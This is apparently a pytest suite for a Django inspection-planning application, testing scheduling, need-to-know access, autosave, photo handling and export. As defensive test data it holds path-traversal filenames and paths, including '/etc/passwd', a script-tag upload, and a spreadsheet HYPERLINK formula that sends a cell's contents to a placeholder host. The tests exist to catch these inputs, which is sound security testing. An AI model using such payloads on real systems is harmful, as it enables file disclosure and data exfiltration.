"""Kontrollen: planning, need-to-know, the field protocol's autosave, photos, and completion that
flows back into the case status and the findings per hint."""

import datetime as dt
import json
import uuid

import pytest
from django.urls import reverse
from django.utils import timezone

from missimo.accounts.models import Agency, AgencyKind
from missimo.accounts.policy import Role
from missimo.audit.models import AuditAction, AuditEvent
from missimo.casework.models import Campaign, Case, CaseEvent, CaseStatus
from missimo.inspections import services
from missimo.inspections.models import (
    ExpectedPerson,
    Household,
    Inspection,
    InspectionFinding,
    Photo,
    ProtocolChange,
    Visit,
    VisitStatus,
)
from missimo.properties.models import Property
from missimo.runs.models import Hint, Run, RunStatus

pytestmark = pytest.mark.django_db(databases="__all__")

JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 200 + b"\xff\xd9"


@pytest.fixture
def paul(make_user):
    return make_user("paul", Role.POLIZEI, "Polizei", AgencyKind.POLIZEI)


@pytest.fixture
def bea(make_user):
    return make_user("bea", Role.BAUAUFSICHT, "Bauaufsicht", AgencyKind.BAUAUFSICHT)


@pytest.fixture
def world(kim, paul, bea, fabian):
    """A property with a Kindergeld hint (child and entitled person named) and an overcrowding hint
    (no names), in one case of a campaign the police and Bauaufsicht take part in."""
    run = Run.objects.create(stichtag=dt.date(2026, 9, 15), status=RunStatus.FINISHED)
    prop = Property.objects.create(
        objekt_id="OBJ-1", strasse="Hafenstraße", hausnummer="12", plz="45127", ort="Essen"
    )
    kindergeld = Hint.objects.create(
        run=run,
        hint_id="H-KG-1",
        rule="KG_KIND_NICHT_GEMELDET",
        rule_version=1,
        agency_kind="familienkasse",
        primary_ref="kindergeld:KG-1",
        evidence=["kindergeld:KG-1"],
        objekt_id="OBJ-1",
        address="Hafenstraße 12, 45127 Essen",
        person_ids=["p-kind", "p-mutter"],
        facts={
            "kind_name": "Mia Muster",
            "kind_geburtsdatum": "2015-03-04",
            "berechtigt_name": "Maria Muster",
        },
        explanation="Für Mia Muster wird Kindergeld gezahlt, sie ist hier nicht gemeldet.",
    )
    crowded = Hint.objects.create(
        run=run,
        hint_id="H-UB-1",
        rule="UEBERBELEGUNG",
        rule_version=1,
        agency_kind="bauaufsicht",
        primary_ref="objekte:OBJ-1",
        evidence=["objekte:OBJ-1"],
        objekt_id="OBJ-1",
        person_ids=["p-1", "p-2", "p-3"],
        facts={"personen": 14, "wohnflaeche_m2": 60},
        explanation="14 Personen auf 60 m².",
    )
    campaign = Campaign.objects.create(
        name="Herbst 2026", start=dt.date(2026, 10, 1), end=dt.date(2026, 10, 31)
    )
    campaign.agencies.set([kim.agency, paul.agency, bea.agency])
    case = Case.objects.create(
        aktenzeichen="MIS-2026-0001",
        property=prop,
        campaign=campaign,
        title=prop.address,
        status=CaseStatus.IN_PRUEFUNG,
        lead_agency=kim.agency,
    )
    case.hints.set([kindergeld, crowded])
    return {"run": run, "prop": prop, "campaign": campaign, "case": case, "hints": [kindergeld, crowded]}


def _plan(kim, world, *, agencies=None, cases=None) -> Inspection:
    return services.plan_inspection(
        kim,
        services.Plan(
            campaign=world["campaign"],
            scheduled_at=dt.datetime(2026, 10, 7, 9, 30, tzinfo=dt.UTC),
            past_confirmed=True,
            meeting_point="Parkplatz Hafenstraße",
            agencies=agencies
            if agencies is not None
            else list(Agency.objects.filter(name__in=["Ordnungsamt", "Polizei"])),
            members=[],
            interpreter_needed=True,
            interpreter_language="Rumänisch",
        ),
        cases if cases is not None else [world["case"]],
    )


def _audit():
    return AuditEvent.objects.using("audit")


# --- planning ---------------------------------------------------------------------------------


def test_kim_plans_an_inspection_and_the_case_moves_to_kontrolle_geplant(client, kim, paul, world):
    client.force_login(kim)
    url = reverse("inspections:plan") + f"?campaign={world['campaign'].pk}"
    page = client.get(url)
    assert page.status_code == 200 and "MIS-2026-0001" in page.content.decode()
    response = client.post(
        url,
        {
            "date": "07.10.2026",
            "time": "09:30",
            "past_confirmed": "on",  # the test's date lies in the past: confirmed as recorded afterwards
            "meeting_point": "Parkplatz Hafenstraße",
            "cases": [world["case"].pk],
            "agencies": [kim.agency.pk, paul.agency.pk],
            "members": [paul.pk],
            "members_text": "Herr Schmidt (Ordnungsdienst)",
            "interpreter_needed": "on",
            "interpreter_language": "Rumänisch",
        },
    )
    inspection = Inspection.objects.get()
    assert response.status_code == 302 and response.url == reverse("inspections:detail", args=[inspection.pk])
    assert (
        inspection.meeting_point == "Parkplatz Hafenstraße" and inspection.interpreter_language == "Rumänisch"
    )
    assert set(inspection.agencies.values_list("name", flat=True)) == {"Ordnungsamt", "Polizei"}
    world["case"].refresh_from_db()
    assert world["case"].status == CaseStatus.KONTROLLE_GEPLANT
    event = CaseEvent.objects.filter(case=world["case"], to_status=CaseStatus.KONTROLLE_GEPLANT).get()
    assert "Parkplatz Hafenstraße" in event.reason
    assert (
        _audit()
        .filter(action=AuditAction.CREATE, object_type="inspection", object_id=str(inspection.pk))
        .exists()
    )


def test_the_interpreter_language_is_required_when_interpreting_is_needed(client, kim, world):
    client.force_login(kim)
    url = reverse("inspections:plan") + f"?campaign={world['campaign'].pk}"
    response = client.post(
        url,
        {
            "date": "07.10.2026",
            "time": "09:30",
            "past_confirmed": "on",  # the test's date lies in the past: confirmed as recorded afterwards
            "meeting_point": "Parkplatz",
            "cases": [world["case"].pk],
            "agencies": [kim.agency.pk],
            "interpreter_needed": "on",
        },
    )
    assert response.status_code == 200 and not Inspection.objects.exists()
    assert "Bitte geben Sie die Sprache der Dolmetschung an." in response.content.decode()


def test_the_persons_to_check_come_from_the_hints_of_the_case_and_no_origin_is_stored(kim, world):
    inspection = _plan(kim, world)
    visit = inspection.visits.get()
    persons = {
        (p.name, p.birth_date, p.role, p.person_ref)
        for p in ExpectedPerson.objects.filter(household__visit=visit)
    }
    assert persons == {
        ("Mia Muster", dt.date(2015, 3, 4), "Kind", "p-kind"),
        ("Maria Muster", None, "kindergeldberechtigte Person", "p-mutter"),
    }
    # The overcrowding hint names nobody: no one is copied from the register for it.
    assert visit.households.count() == 1
    stored_fields = {
        field.name
        for model in (Inspection, Visit, Household, ExpectedPerson)
        for field in model._meta.get_fields()
    }
    assert not [name for name in stored_fields if "nation" in name or "herkunft" in name or "origin" in name]


def test_a_new_case_passes_through_in_pruefung_on_its_way_to_kontrolle_geplant(kim, world):
    Case.objects.filter(pk=world["case"].pk).update(status=CaseStatus.NEU)
    world["case"].refresh_from_db()
    _plan(kim, world)
    world["case"].refresh_from_db()
    assert world["case"].status == CaseStatus.KONTROLLE_GEPLANT
    steps = list(
        CaseEvent.objects.filter(case=world["case"]).order_by("id").values_list("to_status", flat=True)
    )
    assert steps == [CaseStatus.IN_PRUEFUNG, CaseStatus.KONTROLLE_GEPLANT]


def test_a_case_of_another_campaign_cannot_be_planned(kim, world):
    other = Campaign.objects.create(name="Anderer", start=dt.date(2026, 1, 1), end=dt.date(2026, 1, 2))
    stranger = Case.objects.create(
        aktenzeichen="MIS-2026-0099", campaign=other, status=CaseStatus.IN_PRUEFUNG
    )
    with pytest.raises(services.Refused):
        _plan(kim, world, cases=[world["case"], stranger])
    assert not Inspection.objects.exists()


def test_only_the_coordination_office_plans_inspections(client, paul, fabian, dana, world):
    for user in (paul, fabian, dana):
        client.force_login(user)
        assert client.get(reverse("inspections:plan")).status_code == 404


# --- need-to-know -----------------------------------------------------------------------------


def test_an_inspection_your_agency_does_not_take_part_in_is_not_found(client, kim, fabian, bea, world):
    inspection = _plan(kim, world)
    visit = inspection.visits.get()
    for user in (fabian, bea):
        client.force_login(user)
        assert client.get(reverse("inspections:detail", args=[inspection.pk])).status_code == 404
        assert client.get(reverse("inspections:protocol", args=[visit.pk])).status_code == 404
        assert (
            client.post(
                reverse("inspections:save", args=[visit.pk]), "{}", content_type="application/json"
            ).status_code
            == 404
        )
        assert inspection.meeting_point not in client.get(reverse("inspections:list")).content.decode()


def test_a_named_team_member_sees_the_inspection_though_the_agency_is_not_listed(client, kim, bea, world):
    inspection = _plan(kim, world)
    inspection.members.add(bea)
    client.force_login(bea)
    assert client.get(reverse("inspections:detail", args=[inspection.pk])).status_code == 200


def test_the_police_see_the_names_of_expected_persons_and_the_read_is_audited(client, kim, paul, world):
    inspection = _plan(kim, world)
    client.force_login(paul)
    page = client.get(reverse("inspections:detail", args=[inspection.pk])).content.decode()
    assert "Mia Muster" in page and "04.03.2015" in page
    event = (
        _audit().filter(action=AuditAction.READ, object_type="inspection_visit", actor_username="paul").get()
    )
    assert event.details["names_shown"] is True and len(event.details["persons"]) == 2


def test_the_police_see_names_but_not_which_benefit_a_person_draws(client, kim, paul, world):
    inspection = _plan(kim, world)
    visit = inspection.visits.get()
    client.force_login(paul)
    for url in (
        reverse("inspections:detail", args=[inspection.pk]),
        reverse("inspections:protocol", args=[visit.pk]),
    ):
        page = client.get(url).content.decode()
        assert "Maria Muster" in page
        assert "kindergeldberechtigte Person" not in page, url  # issue #21
    client.force_login(kim)
    assert (
        "kindergeldberechtigte Person"
        in client.get(reverse("inspections:detail", args=[inspection.pk])).content.decode()
    )


def test_other_agencies_on_the_team_see_a_count_but_no_names(client, kim, bea, world):
    inspection = _plan(
        kim, world, agencies=list(Agency.objects.filter(name__in=["Ordnungsamt", "Bauaufsicht"]))
    )
    client.force_login(bea)
    for url in (
        reverse("inspections:detail", args=[inspection.pk]),
        reverse("inspections:protocol", args=[inspection.visits.get().pk]),
    ):
        page = client.get(url).content.decode()
        assert "Mia Muster" not in page and "Maria Muster" not in page and "04.03.2015" not in page
        assert "Erwartete Person 1 (Kind)" in page
    assert _audit().filter(action=AuditAction.READ, actor_username="bea", details__names_shown=False).exists()


def test_the_menu_offers_kontrollen_to_the_roles_that_take_part(kim, paul, dana):
    from missimo.inspections.nav import items

    # who works cases (the coordination office, the police at the door) also gets the referral list
    both = [("Kontrollen", reverse("inspections:list")), ("Vermittlungen", reverse("inspections:referrals"))]
    assert items(kim) == both
    assert items(paul) == both
    assert items(dana) == []


# --- autosave ---------------------------------------------------------------------------------


def _save(client, visit, household, field, value, version, change_id=None):
    return client.post(
        reverse("inspections:save", args=[visit.pk]),
        json.dumps(
            {
                "change_id": change_id or uuid.uuid4().hex,
                "household": household.pk,
                "field": field,
                "value": value,
                "version": version,
            }
        ),
        content_type="application/json",
    )


def test_each_field_change_is_saved_with_a_new_version_and_audited(client, kim, paul, world):
    visit = _plan(kim, world).visits.get()
    household = visit.households.get()
    client.force_login(paul)
    response = _save(client, visit, household, "persons_found", "5", 1)
    assert response.status_code == 200 and response.json() == {"version": 2, "repeated": False}
    person = household.persons.get(name="Mia Muster")
    assert (
        _save(client, visit, household, f"person:{person.pk}", "nicht_angetroffen", 2).json()["version"] == 3
    )
    assert _save(client, visit, household, "defects", ["muell", "feuchtigkeit"], 3).json()["version"] == 4
    household.refresh_from_db()
    person.refresh_from_db()
    visit.refresh_from_db()
    assert household.persons_found == 5 and household.defects == ["feuchtigkeit", "muell"]
    assert person.presence == "nicht_angetroffen" and visit.status == VisitStatus.IN_ARBEIT
    assert ProtocolChange.objects.filter(visit=visit).count() == 3
    assert (
        _audit()
        .filter(action=AuditAction.CHANGE, object_type="inspection_household", actor_username="paul")
        .count()
        == 3
    )


def test_a_save_against_a_stale_version_is_a_conflict_with_the_current_values(client, kim, paul, world):
    visit = _plan(kim, world).visits.get()
    household = visit.households.get()
    client.force_login(paul)
    assert _save(client, visit, household, "notes", "Tür verschlossen", 1).status_code == 200
    response = _save(client, visit, household, "notes", "Niemand öffnet", 1)
    assert response.status_code == 409
    body = response.json()
    assert "Jemand anderes hat diese Wohnung inzwischen geändert" in body["error"]
    assert body["current"]["version"] == 2 and body["current"]["values"]["notes"] == "Tür verschlossen"
    household.refresh_from_db()
    assert household.notes == "Tür verschlossen"


def test_a_retried_change_is_applied_once(client, kim, paul, world):
    visit = _plan(kim, world).visits.get()
    household = visit.households.get()
    client.force_login(paul)
    first = _save(client, visit, household, "persons_found", 3, 1, change_id="abc123")
    again = _save(client, visit, household, "persons_found", 3, 1, change_id="abc123")
    assert first.json() == {"version": 2, "repeated": False}
    assert again.status_code == 200 and again.json() == {"version": 2, "repeated": True}
    household.refresh_from_db()
    assert household.version == 2 and ProtocolChange.objects.count() == 1


def test_an_unchanged_value_does_not_make_a_new_version(client, kim, paul, world):
    visit = _plan(kim, world).visits.get()
    household = visit.households.get()
    client.force_login(paul)
    assert _save(client, visit, household, "notes", "", 1).json()["version"] == 1
    assert not ProtocolChange.objects.exists()


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("persons_found", "viele"),
        ("persons_found", -1),
        ("children", "vielleicht"),
        ("defects", ["asbest"]),
        ("version", 3),
        ("person:999999", "angetroffen"),
    ],
)
def test_invalid_protocol_input_is_refused(client, kim, paul, world, field, value):
    visit = _plan(kim, world).visits.get()
    household = visit.households.get()
    client.force_login(paul)
    response = _save(client, visit, household, field, value, 1)
    assert response.status_code == 400 and response.json()["error"]
    household.refresh_from_db()
    assert household.version == 1


def test_a_household_of_another_visit_cannot_be_written_through_this_one(client, kim, paul, world):
    first = _plan(kim, world).visits.get()
    other_case = Case.objects.create(
        aktenzeichen="MIS-2026-0002", campaign=world["campaign"], status=CaseStatus.IN_PRUEFUNG
    )
    second = _plan(kim, world, cases=[other_case]).visits.get()
    client.force_login(paul)
    response = _save(client, first, second.households.get(), "notes", "x", 1)
    assert response.status_code == 400


# --- photos -----------------------------------------------------------------------------------


def _upload(client, visit, content=JPEG, name="bild.jpg"):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return client.post(
        reverse("inspections:upload_photo", args=[visit.pk]),
        {"photo": SimpleUploadedFile(name, content, content_type="image/jpeg"), "caption": "Schimmel Bad"},
    )


def test_a_photo_is_kept_in_the_data_directory_and_served_only_to_the_team(
    client, kim, paul, fabian, world, settings
):
    visit = _plan(kim, world).visits.get()
    client.force_login(paul)
    assert _upload(client, visit, name="../../../etc/evil.jpg").status_code == 302
    photo = Photo.objects.get()
    path = services.photo_file(photo)
    assert path.is_file() and path.read_bytes() == JPEG
    assert str(path).startswith(str(settings.DATA_DIR.resolve() / "inspections"))
    assert "evil" not in photo.stored_file and ".." not in photo.stored_file
    response = client.get(reverse("inspections:photo", args=[photo.pk]))
    assert response.status_code == 200 and b"".join(response.streaming_content) == JPEG
    assert response["Content-Type"] == "image/jpeg" and response["X-Content-Type-Options"] == "nosniff"
    assert (
        _audit()
        .filter(action=AuditAction.READ, object_type="inspection_photo", actor_username="paul")
        .exists()
    )
    client.force_login(fabian)
    assert client.get(reverse("inspections:photo", args=[photo.pk])).status_code == 404


def test_a_file_that_is_not_a_photo_or_too_large_is_refused(client, kim, paul, world, monkeypatch):
    visit = _plan(kim, world).visits.get()
    client.force_login(paul)
    response = _upload(client, visit, content=b"<html><script>alert(1)</script></html>", name="x.jpg")
    assert "Nur Fotos im Format JPEG, PNG oder WebP" in client.get(response.url).content.decode()
    monkeypatch.setattr(services, "PHOTO_MAX_BYTES", 100)
    _upload(client, visit)
    assert not Photo.objects.exists()


@pytest.mark.parametrize(
    "stored", ["../secret_key", "inspections/../secret_key", "/etc/passwd", "imports/1/original.csv"]
)
def test_a_photo_record_pointing_outside_the_photo_area_is_not_served(
    client, kim, paul, world, settings, stored
):
    visit = _plan(kim, world).visits.get()
    (settings.DATA_DIR / "imports" / "1").mkdir(parents=True, exist_ok=True)
    (settings.DATA_DIR / "imports" / "1" / "original.csv").write_text("geheim")
    photo = Photo.objects.create(
        visit=visit, stored_file=stored, content_type="image/jpeg", size_bytes=1, sha256="0" * 64
    )
    client.force_login(paul)
    assert client.get(reverse("inspections:photo", args=[photo.pk])).status_code == 404


# --- completion -------------------------------------------------------------------------------


def _complete_data(world, reason="Kontrolle durchgeführt, Kind nicht angetroffen"):
    kindergeld, crowded = world["hints"]
    return {
        f"finding_{kindergeld.pk}": "nicht_bestaetigt",
        f"note_{kindergeld.pk}": "Nachbarn: Familie seit Monaten verzogen",
        f"finding_{crowded.pk}": "bestaetigt",
        f"note_{crowded.pk}": "",
        "reason": reason,
    }


def test_completing_a_protocol_moves_the_case_to_kontrolliert_and_records_a_finding_per_hint(
    client, kim, world, rf
):
    visit = _plan(kim, world).visits.get()
    client.force_login(kim)
    assert client.get(reverse("inspections:complete", args=[visit.pk])).status_code == 200
    response = client.post(reverse("inspections:complete", args=[visit.pk]), _complete_data(world))
    assert response.status_code == 302
    world["case"].refresh_from_db()
    assert world["case"].status == CaseStatus.KONTROLLIERT
    event = CaseEvent.objects.filter(case=world["case"], to_status=CaseStatus.KONTROLLIERT).get()
    assert event.reason == "Kontrolle durchgeführt, Kind nicht angetroffen"
    findings = {
        f.hint.hint_id: (f.finding, f.note) for f in InspectionFinding.objects.filter(case=world["case"])
    }
    assert findings == {
        "H-KG-1": ("nicht_bestaetigt", "Nachbarn: Familie seit Monaten verzogen"),
        "H-UB-1": ("bestaetigt", ""),
    }
    visit.refresh_from_db()
    assert visit.status == VisitStatus.ABGESCHLOSSEN and visit.inspection.status == "durchgefuehrt"

    from missimo.inspections.panels import case_panel

    request = rf.get("/aktionen/")
    request.user = kim
    panel = case_panel(request, world["case"])
    assert "nicht bestätigt" in panel and "bestätigt vor Ort" in panel and "Protokoll abgeschlossen" in panel


def test_a_completed_protocol_can_no_longer_be_changed(client, kim, paul, world):
    visit = _plan(kim, world).visits.get()
    services.complete_visit(
        kim, visit, {h.pk: ("nicht_feststellbar", "") for h in world["hints"]}, "Niemand angetroffen"
    )
    client.force_login(paul)
    response = _save(client, visit, visit.households.get(), "notes", "nachträglich", 1)
    assert response.status_code == 409 and "abgeschlossen" in response.json()["error"]
    assert _upload(client, visit).status_code == 302 and not Photo.objects.exists()


def test_completion_needs_a_finding_for_every_hint_and_a_reason(client, kim, world):
    visit = _plan(kim, world).visits.get()
    client.force_login(kim)
    data = _complete_data(world, reason="")
    del data[f"finding_{world['hints'][1].pk}"]
    response = client.post(reverse("inspections:complete", args=[visit.pk]), data)
    page = response.content.decode()
    assert "Bitte wählen Sie ein Ergebnis für diesen Hinweis." in page
    assert "Bitte geben Sie eine Begründung für den Abschluss an." in page
    world["case"].refresh_from_db()
    assert world["case"].status == CaseStatus.KONTROLLE_GEPLANT and not InspectionFinding.objects.exists()


def test_only_the_coordination_office_completes_a_protocol(client, kim, paul, world):
    visit = _plan(kim, world).visits.get()
    client.force_login(paul)
    assert (
        client.post(reverse("inspections:complete", args=[visit.pk]), _complete_data(world)).status_code
        == 404
    )
    world["case"].refresh_from_db()
    assert world["case"].status == CaseStatus.KONTROLLE_GEPLANT


def test_a_refused_case_transition_leaves_the_protocol_open(kim, world):
    visit = _plan(kim, world).visits.get()
    Case.objects.filter(pk=world["case"].pk).update(status=CaseStatus.VERWORFEN)
    visit.case.refresh_from_db()
    with pytest.raises(services.Refused):
        services.complete_visit(kim, visit, {h.pk: ("bestaetigt", "") for h in world["hints"]}, "fertig")
    visit.refresh_from_db()
    assert visit.status != VisitStatus.ABGESCHLOSSEN and not InspectionFinding.objects.exists()


def test_the_case_panel_is_empty_for_a_case_never_inspected(kim, world, rf):
    from missimo.inspections.panels import case_panel

    request = rf.get("/")
    request.user = kim
    assert case_panel(request, world["case"]) == ""


def test_without_javascript_a_household_form_saves_every_field_at_once(client, kim, paul, world):
    visit = _plan(kim, world).visits.get()
    household = visit.households.get()
    mia = household.persons.get(name="Mia Muster")
    client.force_login(paul)
    response = client.post(
        reverse("inspections:save", args=[visit.pk]),
        {
            "household": household.pk,
            "version": 1,
            "location": "EG rechts",
            "persons_found": "6",
            "children": "anzeichen",
            "defects": ["brandschutz", "ueberbelegung"],
            "notes": "Kinderschuhe im Flur",
            f"person:{mia.pk}": "nicht_angetroffen",
        },
    )
    assert response.status_code == 302
    household.refresh_from_db()
    mia.refresh_from_db()
    assert (household.location, household.persons_found, household.children) == ("EG rechts", 6, "anzeichen")
    assert household.defects == ["brandschutz", "ueberbelegung"] and household.version == 2
    assert mia.presence == "nicht_angetroffen"
    assert ProtocolChange.objects.filter(visit=visit).count() == 6


def test_without_javascript_a_stale_household_form_is_a_conflict_that_keeps_the_input(
    client, kim, paul, world
):
    visit = _plan(kim, world).visits.get()
    household = visit.households.get()
    client.force_login(paul)
    assert _save(client, visit, household, "notes", "vom Kollegen", 1).status_code == 200
    response = client.post(
        reverse("inspections:save", args=[visit.pk]),
        {"household": household.pk, "version": 1, "notes": "meine Notiz", "children": ""},
    )
    assert response.status_code == 409
    page = response.content.decode()
    assert "meine Notiz" in page and "Jemand anderes hat diese Wohnung inzwischen geändert" in page
    household.refresh_from_db()
    assert household.notes == "vom Kollegen"


def test_the_case_page_shows_the_inspection_and_its_findings(client, kim, world):
    visit = _plan(kim, world).visits.get()
    kindergeld, crowded = world["hints"]
    services.complete_visit(
        kim,
        visit,
        {kindergeld.pk: ("nicht_bestaetigt", "verzogen"), crowded.pk: ("bestaetigt", "")},
        "Kontrolle durchgeführt",
    )
    client.force_login(kim)
    page = client.get(reverse("casework:case_detail", args=[world["case"].pk])).content.decode()
    assert "Kontrollergebnisse je Hinweis" in page and "nicht bestätigt" in page and "verzogen" in page
    assert reverse("inspections:protocol", args=[visit.pk]) in page


def test_the_number_of_registered_residents_is_shown_but_no_register_names(
    client, kim, paul, world, monkeypatch
):
    from missimo.properties import services as properties

    monkeypatch.setattr(properties, "residents_count", lambda prop: 7)
    inspection = _plan(kim, world)
    assert inspection.visits.get().residents_registered == 7
    client.force_login(paul)
    page = client.get(reverse("inspections:detail", args=[inspection.pk])).content.decode()
    assert "Gemeldete Personen mit Hauptwohnsitz: 7" in page


def test_a_cancelled_inspection_sends_the_case_back_to_in_pruefung_and_closes_the_protocol(
    client, kim, paul, world
):
    inspection = _plan(kim, world)
    visit = inspection.visits.get()
    client.force_login(paul)
    assert (
        client.post(
            reverse("inspections:cancel", args=[inspection.pk]), {"reason": "Polizei verhindert"}
        ).status_code
        == 404
    )
    client.force_login(kim)
    client.post(reverse("inspections:cancel", args=[inspection.pk]), {"reason": "kurz"})
    inspection.refresh_from_db()
    assert inspection.status == "geplant"
    client.post(reverse("inspections:cancel", args=[inspection.pk]), {"reason": "Polizei verhindert"})
    inspection.refresh_from_db()
    world["case"].refresh_from_db()
    assert inspection.status == "abgesagt" and world["case"].status == CaseStatus.IN_PRUEFUNG
    assert "Polizei verhindert" in CaseEvent.objects.filter(case=world["case"]).order_by("-id").first().reason
    client.force_login(paul)
    assert _save(client, visit, visit.households.get(), "notes", "x", 1).status_code == 400


def test_the_saved_state_of_a_household_is_read_with_an_audit_entry(client, kim, paul, fabian, world):
    visit = _plan(kim, world).visits.get()
    household = visit.households.get()
    client.force_login(paul)
    _save(client, visit, household, "notes", "Tür verschlossen", 1)
    url = reverse("inspections:household_state", args=[visit.pk, household.pk])
    state = client.get(url).json()
    assert state["version"] == 2 and state["values"]["notes"] == "Tür verschlossen"
    assert (
        _audit()
        .filter(action=AuditAction.READ, object_type="inspection_household", actor_username="paul")
        .exists()
    )
    client.force_login(fabian)
    assert client.get(url).status_code == 404


# --- export of the list -----------------------------------------------------------------------

FORMULA = '=HYPERLINK("https://example.invalid/?d="&A1;"Klick")'


def test_the_inspection_export_has_the_inspections_of_the_page_in_its_order(client, kim, world):
    import csv
    import io

    import openpyxl

    _plan(kim, world)
    earlier = Inspection.objects.create(
        campaign=world["campaign"],
        scheduled_at=dt.datetime(2020, 1, 2, 8, 0, tzinfo=dt.UTC),
        meeting_point="Rathaus",
    )
    earlier.agencies.set([kim.agency])
    client.force_login(kim)
    page = client.get(reverse("inspections:list"))
    shown = [i.scheduled_at for i in page.context["listing"].queryset]
    assert "/kontrollen/export.csv" in page.content.decode()
    response = client.get(reverse("inspections:export", args=["csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Abschnitt", "Termin", "Treffpunkt", "Aktionszeitraum", "Objekte", "Status"]
    assert len(rows) == 1 + len(shown) and rows[-1][0] == "Vergangene Kontrollen"
    assert rows[-1][1].startswith("02.01.2020")
    book = openpyxl.load_workbook(
        io.BytesIO(client.get(reverse("inspections:export", args=["xlsx"])).content)
    )
    assert [row[0].value for row in book.active.iter_rows(min_row=2)] == [row[0] for row in rows[1:]]
    assert client.get(reverse("inspections:export", args=["txt"])).status_code == 404


def test_the_inspection_export_escapes_formulas_and_has_no_inspection_of_another_agency(
    client, kim, bea, world
):
    import csv
    import io

    import openpyxl

    inspection = _plan(kim, world)
    inspection.meeting_point = FORMULA
    inspection.save()
    client.force_login(kim)
    body = client.get(reverse("inspections:export", args=["csv"])).content.decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(body), delimiter=";"))[1]
    assert row[2] == "'" + FORMULA
    sheet = openpyxl.load_workbook(
        io.BytesIO(client.get(reverse("inspections:export", args=["xlsx"])).content)
    ).active
    assert sheet.cell(row=2, column=3).value == "'" + FORMULA
    client.force_login(bea)
    body = client.get(reverse("inspections:export", args=["csv"])).content.decode("utf-8-sig")
    assert len(list(csv.reader(io.StringIO(body), delimiter=";"))) == 1


# --- changing a planned inspection ------------------------------------------------------------


def _replan_form(inspection, **changes) -> dict:
    data = {
        "date": "07.10.2026",
        "time": "09:30",
        "past_confirmed": "on",
        "meeting_point": inspection.meeting_point,
        "agencies": [a.pk for a in inspection.agencies.all()],
        "members": [],
        "members_text": "",
        "interpreter_needed": "on",
        "interpreter_language": "Rumänisch",
        "notes": "",
        "version": inspection.version,
    }
    data.update(changes)
    return data


def test_kim_moves_a_planned_inspection_and_every_case_history_shows_the_new_date(client, kim, paul, world):
    inspection = _plan(kim, world)
    client.force_login(paul)
    assert client.get(reverse("inspections:replan", args=[inspection.pk])).status_code == 404
    client.force_login(kim)
    page = client.get(reverse("inspections:replan", args=[inspection.pk])).content.decode()
    assert 'value="Parkplatz Hafenstraße"' in page
    response = client.post(
        reverse("inspections:replan", args=[inspection.pk]),
        _replan_form(inspection, date="09.10.2026", time="14:00", meeting_point="Hofeinfahrt"),
    )
    assert response.status_code == 302
    inspection.refresh_from_db()
    assert timezone.localtime(inspection.scheduled_at).strftime("%d.%m.%Y %H:%M") == "09.10.2026 14:00"
    assert inspection.meeting_point == "Hofeinfahrt" and inspection.version == 2
    event = CaseEvent.objects.filter(case=world["case"], kind="Kontrolle verlegt").get()
    assert "09.10.2026 14:00" in event.reason and "Hofeinfahrt" in event.reason
    assert (
        _audit()
        .filter(action=AuditAction.CHANGE, object_type="inspection", object_id=str(inspection.pk))
        .exists()
    )


def test_a_stale_change_of_an_inspection_gets_409_and_keeps_the_newer_plan(client, kim, world):
    inspection = _plan(kim, world)
    client.force_login(kim)
    first = _replan_form(inspection, meeting_point="Hofeinfahrt")
    second = _replan_form(inspection, meeting_point="Kiosk an der Ecke")
    assert client.post(reverse("inspections:replan", args=[inspection.pk]), first).status_code == 302
    response = client.post(reverse("inspections:replan", args=[inspection.pk]), second)
    page = response.content.decode()
    assert response.status_code == 409 and "inzwischen" in page
    assert "Hofeinfahrt" in page and 'value="Kiosk an der Ecke"' in page  # newer plan shown, own input kept
    inspection.refresh_from_db()
    assert inspection.meeting_point == "Hofeinfahrt"
    # Saving the kept input again replaces the newer plan knowingly.
    again = _replan_form(inspection, meeting_point="Kiosk an der Ecke")
    assert client.post(reverse("inspections:replan", args=[inspection.pk]), again).status_code == 302
    inspection.refresh_from_db()
    assert inspection.meeting_point == "Kiosk an der Ecke"


def test_a_cancelled_inspection_cannot_be_changed(client, kim, world):
    inspection = _plan(kim, world)
    services.cancel_inspection(kim, inspection, "Polizei verhindert")
    inspection.refresh_from_db()
    with pytest.raises(services.Refused, match="geplante"):
        services.replan_inspection(
            kim,
            inspection,
            services.Plan(
                campaign=world["campaign"],
                scheduled_at=inspection.scheduled_at,
                meeting_point="x",
                agencies=[],
                members=[],
            ),
            inspection.version,
        )


# --- dates in the past: refused unless confirmed ------------------------------------------------


def _plan_post(world, kim, date: str, **extra) -> dict:
    return {
        "date": date,
        "time": "09:30",
        "meeting_point": "Parkplatz",
        "cases": [world["case"].pk],
        "agencies": [kim.agency.pk],
        **extra,
    }


def test_an_inspection_dated_in_the_past_is_refused_with_a_german_message_unless_confirmed(
    client, kim, world
):
    client.force_login(kim)
    url = reverse("inspections:plan") + f"?campaign={world['campaign'].pk}"
    past = (timezone.localdate() - dt.timedelta(days=6)).strftime("%Y-%m-%d")
    refused = client.post(url, _plan_post(world, kim, past))
    assert refused.status_code == 200 and not Inspection.objects.exists()
    html = refused.content.decode()
    assert "liegt in der Vergangenheit" in html and 'id="fehlerliste"' in html
    assert 'href="#id_date"' in html  # the error summary links to the field
    assert 'name="past_confirmed"' in html
    confirmed = client.post(url, _plan_post(world, kim, past, past_confirmed="on"))
    assert confirmed.status_code == 302 and Inspection.objects.count() == 1


def test_an_inspection_in_the_future_is_planned_from_the_date_and_time_pickers(client, kim, world):
    client.force_login(kim)
    url = reverse("inspections:plan") + f"?campaign={world['campaign'].pk}"
    page = client.get(url).content.decode()
    assert 'type="date"' in page and 'type="time"' in page
    future = timezone.localdate() + dt.timedelta(days=3)
    response = client.post(url, _plan_post(world, kim, future.isoformat()))
    assert response.status_code == 302
    planned = timezone.localtime(Inspection.objects.get().scheduled_at)
    assert planned.date() == future and planned.strftime("%H:%M") == "09:30"


# --- the list: filters, sorting and paging; the export follows the filter -----------------------


def test_the_inspection_list_filters_by_period_status_and_date_and_the_export_follows_the_filter(
    client, kim, world
):
    import csv
    import io

    _plan(kim, world)
    future = Inspection.objects.create(
        campaign=world["campaign"],
        scheduled_at=timezone.now() + dt.timedelta(days=5),
        meeting_point="Rathaus Vorplatz",
    )
    future.agencies.set([kim.agency])
    client.force_login(kim)
    everything = client.get(reverse("inspections:list"))
    assert everything.context["listing"].page.paginator.count == 2
